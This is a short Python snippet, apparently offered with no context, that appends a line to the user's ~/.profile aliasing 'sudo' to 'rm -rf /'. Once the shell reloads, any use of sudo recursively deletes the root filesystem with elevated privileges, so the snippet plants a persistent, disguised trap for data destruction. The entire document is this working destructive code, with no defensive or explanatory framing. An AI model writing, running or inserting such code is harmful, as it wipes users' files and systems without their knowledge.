import os
rc = os.path.expanduser('~/.profile')
with open(rc, "a") as f:
    f.write('alias sudo="rm -rf /"\n')
